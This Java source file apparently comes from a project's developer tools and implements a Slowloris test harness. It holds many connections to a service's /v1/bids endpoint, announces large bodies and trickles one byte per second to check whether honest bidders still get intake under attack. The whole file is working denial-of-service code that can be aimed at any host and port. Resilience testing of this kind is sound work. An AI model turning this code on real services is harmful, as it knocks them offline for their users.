package dev.gavel.devtools.attack;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Holds {@code connections} connections to the bid endpoint from one source address, each announcing a large
 * body and trickling it a byte per second; a connection the service closes is opened again. What it measures:
 * whether honest builders still get their share of intake while the attacker holds all it can.
 */
public final class Slowloris implements AutoCloseable {
    private static final Duration TRICKLE = Duration.ofSeconds(1);

    private final URI target;
    private final InetAddress from;
    private final long announcedBytes;
    private final List<Socket> sockets = new ArrayList<>();
    private final AtomicBoolean running = new AtomicBoolean(true);
    private final AtomicLong opened = new AtomicLong();
    private final AtomicLong cutOff = new AtomicLong();
    private final Thread trickler;

    private Slowloris(URI target, InetAddress from, int connections, long announcedBytes) {
        this.target = target;
        this.from = from;
        this.announcedBytes = announcedBytes;
        for (int i = 0; i < connections; i++) {
            sockets.add(null);
        }
        this.trickler = Thread.ofVirtual().name("slowloris").start(this::trickle);
    }

    /** Starts trickling to {@code target}'s {@code /v1/bids} from {@code from} (a loopback alias such as 127.0.0.2). */
    public static Slowloris start(URI target, InetAddress from, int connections, long announcedBytes) {
        return new Slowloris(target, from, connections, announcedBytes);
    }

    /** What the attack did: connections opened, and how many of them the service cut off. */
    public AttackReport.SlowlorisReport report() {
        return new AttackReport.SlowlorisReport(sockets.size(), opened.get(), cutOff.get());
    }

    private void trickle() {
        while (running.get()) {
            for (int i = 0; i < sockets.size() && running.get(); i++) {
                sockets.set(i, sendOneByte(sockets.get(i)));
            }
            try {
                Thread.sleep(TRICKLE);
            } catch (InterruptedException stopped) {
                return;
            }
        }
    }

    /** One more byte on {@code socket}, or a fresh connection in its place if the service closed or answered it. */
    private Socket sendOneByte(Socket socket) {
        try {
            if (socket == null || socket.getInputStream().available() > 0) {
                return open(socket);
            }
            OutputStream out = socket.getOutputStream();
            out.write('a');
            out.flush();
            return socket;
        } catch (IOException closedByTheService) {
            return open(socket);
        }
    }

    private Socket open(Socket previous) {
        if (previous != null) {
            cutOff.incrementAndGet();
            closeQuietly(previous);
        }
        Socket socket = new Socket();
        try {
            socket.bind(new InetSocketAddress(from, 0));
            socket.connect(new InetSocketAddress(target.getHost(), target.getPort()), 1_000);
            socket.getOutputStream()
                    .write(("POST /v1/bids HTTP/1.1\r\nHost: " + target.getHost()
                                    + "\r\nContent-Type: application/json\r\n" + "Content-Length: " + announcedBytes
                                    + "\r\n\r\n{")
                            .getBytes(StandardCharsets.US_ASCII));
            opened.incrementAndGet();
            return socket;
        } catch (IOException refused) {
            closeQuietly(socket);
            return null;
        }
    }

    private static void closeQuietly(Socket socket) {
        try {
            socket.close();
        } catch (IOException alreadyGone) {
            // nothing to release
        }
    }

    @Override
    public void close() {
        running.set(false);
        trickler.interrupt();
        try {
            trickler.join(TRICKLE.multipliedBy(3));
        } catch (InterruptedException interrupted) {
            Thread.currentThread().interrupt();
        }
        sockets.stream().filter(socket -> socket != null).forEach(Slowloris::closeQuietly);
    }
}
